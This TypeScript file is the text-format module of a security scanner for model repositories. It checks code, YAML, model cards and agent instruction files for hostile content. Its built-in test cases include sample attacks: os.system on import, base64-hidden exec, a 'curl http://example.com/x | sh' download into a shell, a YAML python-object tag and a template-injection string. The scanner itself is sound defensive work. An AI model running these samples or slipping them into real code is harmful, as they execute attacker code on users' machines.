import { shown } from '../../findings/finding.ts';
import { CODE_RULES } from '../code-rules.ts';
import type { Format, Part, TextKind } from '../format.ts';
import { judgePython, judgeShell } from '../python-code.ts';
import { attackIn } from '../shell-commands.ts';
import { judgeMarkup, judgeUnseen, tellUnseen, withoutCode } from '../shown-text.ts';
import { Malformed } from '../source.ts';
import { judgeStrayTemplate, judgeTemplate } from '../template.ts';
import { encodingOf, inUtf8, saysText } from './encoding.ts';
import { isNearlyJson, readNearly } from './nearly-json.ts';
import { judgePlace } from './places.ts';
import { isPackaging, isRequirements, judgePackaging, judgeRequirements } from './requirements.ts';

/** Bytes of a text that is understood as well as looked through. Longer ones are tables and lists of words. */
const UNDERSTOOD = 4 << 20;
const TOO_MUCH = 'it is YAML that is too long or nested too deep';
const PIECE = 1 << 18;
/** What no text has: controls but for tab, line ends, form feed and escape. */
const CONTROL = /[\u0000-\u0008\u000e-\u001a\u001c-\u001f]/;

const CONTROLS_IN = new RegExp(CONTROL, 'g');

const CONTROLS = new Set(
  Array.from({ length: 32 }, (_, byte) => byte).filter((byte) => CONTROL.test(String.fromCharCode(byte))),
);

/** Settings go by many names; code and texts for people that speak of YAML are none. */
const MAY_BE_YAML =
  /^(?!.*(?:\.(?:py|ts|js|rs|go|c|cc|cpp|h|java|md|rst|html?|ipynb|json|jsonl|csv|tsv|vocab)|(?:vocab|merges|tokens|dict|words)\w{0,20}\.txt)$)/i;

const bytes = (text: string) => () => new TextEncoder().encode(text);

/** Text in UTF-8: code, settings, lists of requirements, texts for people. */
export const text: Format = {
  name: 'text',
  title: 'text',
  rules: Object.values(CODE_RULES),
  looks: (source, name) =>
    isText(source.read(0, 4096), source.size <= 4096) || encodingOf(source, name) !== undefined
      ? 'maybe'
      : false,
  read,
  proof: {
    catches: [
      {
        name: 'code that runs a command on import',
        bytes: bytes('import os\nfrom torch import nn\nos.system("id")\n'),
        rules: ['code.runs-command'],
      },
      {
        name: 'hidden code',
        bytes: bytes('import base64\nexec(base64.b64decode("cHJpbnQoMSk="))\n'),
        rules: ['code.hidden-code'],
      },
      {
        name: 'a download into a shell',
        bytes: bytes(
          'import subprocess\ndef f():\n  subprocess.run("curl http://example.com/x | sh", shell=True)\n',
        ),
        rules: ['code.hostile-command'],
      },
      {
        name: 'objects in YAML',
        bytes: bytes('model:\n  a: !!python/object/apply:os.system ["id"]\n'),
        rules: ['yaml.python-object'],
      },
      {
        name: 'a template in a text',
        bytes: bytes("# A model\n\n{{ ''.__class__.__mro__ }}\n"),
        rules: ['template.code-in-text'],
      },
    ],
    passes: [
      {
        name: 'a model card',
        bytes: bytes('---\nlicense: mit\n---\n# A model\n\nUse `model.eval()` and {{ name }}.\n'),
      },
      {
        name: 'code of a model',
        bytes: bytes(
          'import os\nimport torch\nfrom torch import nn\n\nclass Net(nn.Module):\n    def forward(self, x):\n        return self.layer(x)\n',
        ),
      },
      { name: 'words', bytes: bytes('[PAD]\n[UNK]\nthe\n##ing\n') },
    ],
  },
};

function isText(beginning: Uint8Array, isWhole: boolean): boolean {
  // Most of what is no text shows it at once: decoding what is none costs more.
  for (let i = 0; i < 64 && i < beginning.length; i++) if (CONTROLS.has(beginning[i] ?? 0)) return false;
  try {
    const decoded = new TextDecoder('utf-8', { fatal: true }).decode(beginning, { stream: !isWhole });
    return !CONTROL.test(decoded);
  } catch {
    return false;
  }
}

async function read(part: Part): Promise<void> {
  const { source, path } = part;
  const name = path.at(-1) ?? '';
  if (!(await isUtf8(part, saysText(name)))) return otherwise(part, name);
  if (source.size > UNDERSTOOD) {
    await lookThrough(part, kindOf(name), looksLikePython(name, ''));
    return isYaml(name)
      ? part.coverage.claim('unread', 0, source.size, TOO_MUCH)
      : part.coverage.claim('parsed', 0, source.size);
  }
  const whole = new TextDecoder().decode(source.read(0, source.size));
  part.readText(whole, kindOf(name), 0);
  if (isRequirements(name)) judgeRequirements(part, whole);
  else if (isPackaging(name)) judgePackaging(part, whole);
  // In lists of conda, requirements and channels are items.
  else if (/(?:^|\/)(?:(?:environment|conda)[\w.-]*|env(?:[_.-][\w.-]*)?)\.ya?ml$/i.test(name))
    judgeRequirements(part, whole.replace(/^([^\S\n\r\u2028\u2029]*)- /gm, '$1  '));
  else if (/\.(?:jinja2?|j2)$/i.test(name)) judgeTemplate(part, whole, 0);
  else judgeStrayTemplate(part, whole, 0);
  judgePlace(part, whole);
  readShown(part, name, whole);
  const frontMatter = /^---\r?\n([\s\S]{1,65536}?)\n---/.exec(whole)?.[1];
  if (frontMatter !== undefined && /\.md$/i.test(name)) await readYaml(part, frontMatter);
  const understood =
    !(isYaml(name) || (MAY_BE_YAML.test(name) && /!!python\/|yaml\.org,2002:python/.test(whole))) ||
    (await readYaml(part, whole));
  // Tasks, workflows and images run commands, in whatever language they are written.
  if (
    whole.startsWith('#!') ||
    /(?:^|\/)CMakeLists\.txt$|\.(?:Rmd|qmd)$/.test(name) ||
    (kindOf(name) !== 'prose' &&
      !/\.(?:pyw?|ipynb|html?|json|jsonl|ndjson|csv|tsv|vocab|merges|bib|tex)$/i.test(name))
  )
    judgeShell(part, whole);
  if (looksLikePython(name, whole)) {
    judgePython(part, whole, { start: 0 });
    // Notebooks that are kept as code.
    const lines = whole.match(/^!.{1,2000}$/gm);
    if (lines !== null) judgeShell(part, lines.join('\n'));
  }
  if (understood) part.coverage.claim('parsed', 0, source.size);
  else part.coverage.claim('unread', 0, source.size, TOO_MUCH);
  // What is no JSON may be YAML all the same, with tags.
  if (isNearlyJson(name, whole) && !(await readNearly(part, name, whole))) await readYaml(part, whole);
}

/** Some go without the ending. */
const isYaml = (name: string): boolean =>
  /\.ya?ml$|(?:^|\/)(?:MLmodel|MLproject|\.condarc|\.clang-format|[\w.-]*kubeconfig)$/i.test(name);

/** Cards and pages: what they do when they are shown, and say without showing it. */
function readShown(part: Part, name: string, whole: string): void {
  const isCode = kindOf(name) === 'code' || looksLikePython(name, whole);
  const isCard = /\.(?:md|mdx|markdown|rst|html?)$|(?:^|\/)README[\w.]*$/i.test(name);
  if (isCode || isCard) judgeUnseen(part, whole, isCode ? 'code' : 'prose');
  if (isCard) {
    const markup = /\.html?$/i.test(name) ? whole : withoutCode(whole);
    judgeMarkup(part, markup, 'the text');
    tellUnseen(part, markup);
    const attack = attackIn(whole);
    if (attack !== undefined)
      part.report({
        rule: CODE_RULES.shell.id,
        message: `whoever follows the text runs ${shown(attack, 80)}`,
        severity: 'medium',
      });
  }
  // What assistants are told by whoever opens the folder, and models by whoever serves them.
  if (
    /(?:^|\/)(?:(?:AGENTS|CLAUDE|GEMINI|SKILL|copilot-instructions)\.md|llms(?:-full)?\.txt)$|(?:^|\/)\.(?:cursorrules|windsurfrules|clinerules|goosehints)$|\.mdc$/i.test(
      name,
    )
  ) {
    part.readText(whole, 'told', 0);
    judgeShell(part, whole);
  }
  if (/(?:^|\/|\.)Modelfile(?:\.[\w-]+)?$/i.test(name))
    for (const [, long, short] of whole.matchAll(
      /^[^\S\n\r\u2028\u2029]*(?:SYSTEM|MESSAGE\s+\w{1,20})\s+(?:"""([\s\S]{1,65536}?)"""|([^\n]{1,4000}))/gim,
    ))
      part.readText(long ?? short ?? '', 'told');
}

/** The parser is loaded when it is needed: it is a tenth of all that a scan loads, and most scans meet no YAML. */
async function readYaml(part: Part, text: string): Promise<boolean> {
  const { judgeYaml } = await import('./yaml.ts');
  return judgeYaml(part, text);
}

/** Whether it is UTF-8 to its end, and text. */
async function isUtf8({ source, pause }: Part, says: boolean): Promise<boolean> {
  const decoder = new TextDecoder('utf-8', { fatal: true });
  let controls = 0;
  for (let at = 0; at < source.size; at += PIECE) {
    const rest = pause();
    if (rest) await rest;
    try {
      const piece = decoder.decode(source.read(at, PIECE), { stream: at + PIECE < source.size });
      controls += piece.match(CONTROLS_IN)?.length ?? 0;
    } catch {
      return false;
    }
    if (controls > (says ? source.size / 50 + 4 : 0)) return false;
  }
  return true;
}

/** Written in another encoding it is read once more, in UTF-8, under its own name. */
async function otherwise(part: Part, name: string): Promise<void> {
  const { source, path } = part;
  const encoding = encodingOf(source, name);
  // What was read so before is no text in this way either.
  if (encoding === undefined || path.filter((step) => step.startsWith(AGAIN)).length > 1)
    throw new Malformed('it is no text: there are bytes that are no UTF-8, or controls', 0);
  for await (const _ of inUtf8(source, encoding, part.pause));
  part.coverage.claim('parsed', 0, source.size);
  const { source: text } = await part.unpack(source.size, inUtf8(source, encoding, part.pause));
  await part.inside(`${AGAIN}${name.slice(name.lastIndexOf('/') + 1)}`, text);
}

const AGAIN = 'in UTF-8/';

/** A long text, piece by piece; pieces meet at line ends, so that no secret is cut. */
async function lookThrough(part: Part, kind: TextKind, isPython: boolean): Promise<void> {
  const { source, pause, readText } = part;
  for (let at = 0; at < source.size; ) {
    const rest = pause();
    if (rest) await rest;
    const piece = source.read(at, PIECE);
    const last = at + piece.length >= source.size ? -1 : piece.lastIndexOf(0x0a);
    const length = last > 0 ? last + 1 : piece.length;
    const decoded = new TextDecoder().decode(piece.subarray(0, length));
    readText(decoded, kind, at);
    if (isPython) judgePython(part, decoded, { start: at });
    at += Math.max(1, length);
  }
}

const kindOf = (name: string): TextKind =>
  /\.(?:py|sh|js|ts|c|cc|cpp|cu|h|ipynb)$/i.test(name)
    ? 'code'
    : /\.(?:md|txt|rst)$/i.test(name)
      ? 'prose'
      : 'metadata';

/** Content decides; a name that says Python is believed. */
function looksLikePython(name: string, whole: string): boolean {
  return (
    /\.pyw?$/i.test(name) ||
    /^#!.{0,100}python/.test(whole) ||
    (!/\.(?:md|rst|txt|json|ya?ml|html?)$/i.test(name) &&
      /^(?:import [a-zA-Z_][\w.]*|from [a-zA-Z_.][\w.]* import )/m.test(whole.slice(0, 1 << 16)))
  );
}
